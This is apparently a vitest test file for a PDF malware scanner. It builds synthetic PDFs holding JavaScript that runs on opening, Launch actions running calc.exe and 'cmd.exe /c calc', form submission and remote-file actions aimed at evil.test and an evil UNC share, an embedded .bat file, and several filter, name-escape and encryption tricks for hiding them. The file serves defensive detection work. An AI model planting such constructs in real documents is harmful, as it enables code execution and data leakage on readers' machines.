import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { Rc4 } from '../../../../electron/inspect/office/encryption/rc4.ts';
import { allow } from '../../../../shared/model/verdict.ts';
import { inspecting, told } from '../inspecting.ts';
import { makePdf, objectStream, pdfStream } from './make-pdf.ts';

const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
const pages = '<< /Type /Pages /Kids [] /Count 0 >>';
const judged = (...objects: (string | Buffer)[]) => inspecting(makePdf(objects), 'a.pdf');

test('a quiet PDF is clean', () => {
  expect(
    judged(
      catalog('/OpenAction [3 0 R /Fit]'),
      pages,
      '<< /Type /Page >>',
      pdfStream('BT (JavaScript) Tj ET'),
    ).verdict,
  ).toEqual({
    level: 'allow',
    reasons: [],
  });
});

test.each([
  ['as the action of opening', [catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), pages]],
  [
    'through references',
    [
      catalog('/OpenAction 3 0 R'),
      pages,
      '<< /S /JavaScript /JS 4 0 R >>',
      pdfStream(deflateSync(Buffer.from('app.alert(1)')), '/Filter /FlateDecode'),
    ],
  ],
  [
    'behind another action',
    [catalog('/OpenAction << /S /GoTo /Next << /S /JavaScript /JS <6170702E> >> >>'), pages],
  ],
  [
    'among the names of the document',
    [catalog('/Names << /JavaScript << /Names [(a) 3 0 R] >> >>'), pages, '<< /S /JavaScript /JS (x()) >>'],
  ],
])('a script that runs on opening is held: %s', (_, objects) => {
  const judgement = judged(...objects);
  expect(told(judgement).join()).toContain('pdf.javascript-on-opening');
  expect(judgement.verdict.level).toBe('hold');
});

test('a script is found inside of an object stream, with its place', () => {
  const packed = objectStream(
    [catalog('/AcroForm 6 0 R'), '<< /AA << /K << /S /JavaScript /JS (app.launchURL(1)) >> >> >>'],
    5,
  );
  expect(told(judged(packed, pages))).toEqual(['pdf.javascript 6 0 obj']);
});

test('an object stream that cannot be read is held, not passed over', () => {
  const torn = pdfStream('not deflated', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode');
  expect(told(judged(catalog(''), pages, torn))).toEqual(['file.not-inspected 3 0 obj']);
  const unknown = pdfStream('x', '/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode');
  expect(judged(catalog(''), pages, unknown).verdict.level).toBe('hold');
});

test('object streams come out of every filter that text can hide in', () => {
  const plain = Buffer.from('9 0 << /S /Launch /F (calc.exe) >>');
  const hex = `${plain.toString('hex')}>`;
  const long = Buffer.concat([Buffer.of(plain.length - 1), plain, Buffer.of(128)]);
  const rows = Buffer.concat(
    [...Array(Math.ceil(plain.length / 8)).keys()].map((row) =>
      Buffer.concat([Buffer.of(0), plain.subarray(row * 8, row * 8 + 8)]),
    ),
  );
  for (const [content, filter] of [
    [hex, '/Filter /ASCIIHexDecode'],
    [long, '/Filter [/RunLengthDecode]'],
    [deflateSync(Buffer.from(hex)), '/Filter [/Fl /AHx]'],
    [deflateSync(rows), '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 8 >>'],
    [lzw(plain), '/Filter /LZWDecode'],
    [ascii85(plain), '/Filter /A85'],
  ] as const) {
    const packed = pdfStream(content, `/Type /ObjStm /N 1 /First 4 ${filter}`);
    expect(told(judged(packed)), filter).toEqual(['pdf.launch 9 0 obj']);
  }
});

test('names are read as readers do, and escapes in telling ones are told', () => {
  const judgement = judged(catalog('/Open#41ction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), pages);
  expect(told(judgement)).toContain('pdf.javascript-on-opening 1 0 obj');
  expect(
    judgement.verdict.reasons
      .filter(({ code }) => code === 'pdf.disguised-name')
      .map(({ params }) => params['name']),
  ).toEqual(['OpenAction', 'JS', 'JavaScript']);
  expect(judged('<< /Name#20with#20space /Font#23 >>').verdict.level).toBe('allow');
});

test.each([
  ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'pdf.launch', 'hold', 'cmd.exe /c calc'],
  [
    '<< /S /SubmitForm /F << /FS /URL /F (https://evil.test/) >> >>',
    'pdf.submits-form',
    'warn',
    'https://evil.test/',
  ],
  [
    '<< /S /ImportData /F (\\\\\\\\evil\\\\share\\\\a.fdf) >>',
    'pdf.imports-data',
    'warn',
    '\\\\evil\\share\\a.fdf',
  ],
  ['<< /S /GoToE /F (\\\\\\\\evil\\\\share) >>', 'pdf.remote-file', 'hold', '\\\\evil\\share'],
  [
    '<< /S /GoToR /F << /F (//evil.test/share/a.pdf) >> >>',
    'pdf.remote-file',
    'hold',
    '//evil.test/share/a.pdf',
  ],
])('%s is %s', (action, code, level, target) => {
  const reason = judged(catalog(''), pages, `<< /A ${action} >>`).verdict.reasons.find(
    (candidate) => candidate.code === code,
  );
  expect(reason).toMatchObject({ level, params: { target, where: '3 0 obj' } });
});

test('what acts on opening without a script is held too (CVE-2018-4993)', () => {
  expect(told(judged(catalog('/OpenAction << /S /URI /URI (https://evil.test/) >>'), pages))).toContain(
    'pdf.acts-on-opening 1 0 obj',
  );
});

test('links go through the gate', () => {
  const asked: string[] = [];
  inspecting(
    makePdf([
      catalog(''),
      '<< /A << /S /URI /URI (https://one.test/) >> >>',
      '<< /URI <68747470733a2f2f74776f2e746573742f> >>',
    ]),
    'a.pdf',
    {
      link: (url) => {
        asked.push(url);
        return allow;
      },
    },
  );
  expect(asked).toEqual(['https://one.test/', 'https://two.test/']);
});

test('an embedded file is told by its name and inspected itself', () => {
  const judgement = judged(
    catalog('/Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >>'),
    pages,
    '<< /Type /Filespec /F (invoice.bat) /EF << /F 4 0 R >> >>',
    pdfStream(deflateSync(Buffer.from('@echo off\r\ncalc')), '/Type /EmbeddedFile /Filter /FlateDecode'),
  );
  expect(told(judgement)).toEqual(['file.script 4 0 obj/invoice.bat', 'document.embedded-file 4 0 obj']);
});

test('forms that only count say so quietly, forms with scripts and players are told', () => {
  expect(
    judged(
      catalog(''),
      pages,
      '<< /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);) >> >> >>',
    ).verdict,
  ).toMatchObject({
    level: 'notice',
    reasons: [{ code: 'pdf.form-script' }],
  });
  const xfa = pdfStream(
    '<xdp><template><event activity="initialize"><script>x()</script></event></template></xdp>',
  );
  expect(told(judged(catalog('/AcroForm << /XFA [(template) 3 0 R] >>'), pages, xfa))).toEqual([
    'pdf.form-with-script 1 0 obj',
  ]);
  expect(judged(catalog(''), pages, '<< /Subtype /RichMedia >>').verdict.level).toBe('hold');
});

test('what an older or newer version of the file holds is found, whatever the last one says', () => {
  const first = makePdf([catalog('/OpenAction << /S /JavaScript /JS (x()) >>'), pages]);
  const update = Buffer.from('1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');
  expect(told(inspecting(Buffer.concat([first, update]), 'a.pdf'))).toContain(
    'pdf.javascript-on-opening 1 0 obj',
  );
  expect(told(inspecting(Buffer.concat([Buffer.from('junk\n'), first]), 'a.pdf'))).toContain(
    'pdf.javascript-on-opening 1 0 obj',
  );
});

test('an object hidden in a text or a stream is found', () => {
  const hidden = '5 0 obj << /S /Launch /F (calc.exe) >> endobj';
  expect(told(judged(catalog(''), `(${hidden})`))).toContain('pdf.launch 5 0 obj');
  expect(told(judged(catalog(''), pdfStream(hidden)))).toContain('pdf.launch 5 0 obj');
});

test('a PDF that opens without a password is read, one that needs a password is held', () => {
  const id = Buffer.alloc(16, 3);
  const owner = Buffer.alloc(32, 4);
  const padding = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex');
  const md5 = (...pieces: Buffer[]) => createHash('md5').update(Buffer.concat(pieces)).digest();
  const key = md5(padding, owner, Buffer.of(0xfc, 0xff, 0xff, 0xff), id).subarray(0, 5);
  const own = md5(key, Buffer.of(1, 0, 0, 0, 0)).subarray(0, 10);
  const script = new Rc4(own).apply(Buffer.from('app.alert(1)')).toString('hex');
  const locked = (user: Buffer) =>
    inspecting(
      makePdf(
        [catalog(`/OpenAction << /S /JavaScript /JS <${script}> >>`), pages],
        `<< /Root 1 0 R /ID [<${id.toString('hex')}> <>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${owner.toString('hex')}> /U <${user.toString('hex')}> >> >>`,
      ),
      'a.pdf',
    );
  expect(told(locked(new Rc4(key).apply(padding)))).toEqual(['pdf.javascript-on-opening 1 0 obj']);
  expect(told(locked(Buffer.alloc(32)))).toContain('file.encrypted');
});

test('brackets without end and objects within objects end', () => {
  expect(judged('['.repeat(100_000)).verdict.reasons[0]).toMatchObject({ code: 'file.over-limit' });
  const started = process.cpuUsage();
  expect(judged('1 0 obj ('.repeat(20_000)).verdict.level).toBe('hold');
  expect(process.cpuUsage(started).user).toBeLessThan(1_000_000);
});

test('streams without end, and one script that thousands of actions name, cost once', () => {
  const started = process.cpuUsage();
  expect(judged(`<< >> stream ${'1 0 obj << >> stream '.repeat(10_000)}`).verdict.level).toBe('allow');
  const actions = Array.from({ length: 1000 }, () => '<< /JavaScript 2 0 R /JS 1 0 R /XFA 1 0 R >>');
  const names = `<< /Names [${'(a) 3 0 R '.repeat(500)}] /Kids [${'2 0 R '.repeat(500)}] >>`;
  expect(judged(pdfStream('x'.repeat(500_000)), names, ...actions).verdict.level).toBe('hold');
  expect(process.cpuUsage(started).user).toBeLessThan(1_500_000);
});

test('each of several actions that follow the first counts', () => {
  const action = '/OpenAction << /S /GoTo /Next [<< /S /GoTo >> << /S /JavaScript /JS (x()) >>] >>';
  expect(told(judged(catalog(action), pages))).toEqual(['pdf.javascript-on-opening 1 0 obj']);
});

/** Without any compression: clear, then each byte as a code of nine bits, clearing before the codes get wider. */
function lzw(plain: Buffer): Buffer {
  const codes = [...plain].flatMap((byte, index) => (index % 200 === 0 ? [256, byte] : [byte]));
  const bits = [...codes, 257].map((code) => code.toString(2).padStart(9, '0')).join('');
  const bytes = bits.match(/.{1,8}/g) ?? [];
  return Buffer.from(bytes.map((byte) => Number.parseInt(byte.padEnd(8, '0'), 2)));
}

function ascii85(plain: Buffer): string {
  const padded = Buffer.concat([plain, Buffer.alloc((4 - (plain.length % 4)) % 4, 0x20)]);
  let text = '';
  for (let at = 0; at < padded.length; at += 4) {
    let value = padded.readUInt32BE(at);
    let group = '';
    for (let digit = 0; digit < 5; digit += 1) {
      group = String.fromCharCode(33 + (value % 85)) + group;
      value = Math.floor(value / 85);
    }
    text += group;
  }
  return `${text}~>`;
}
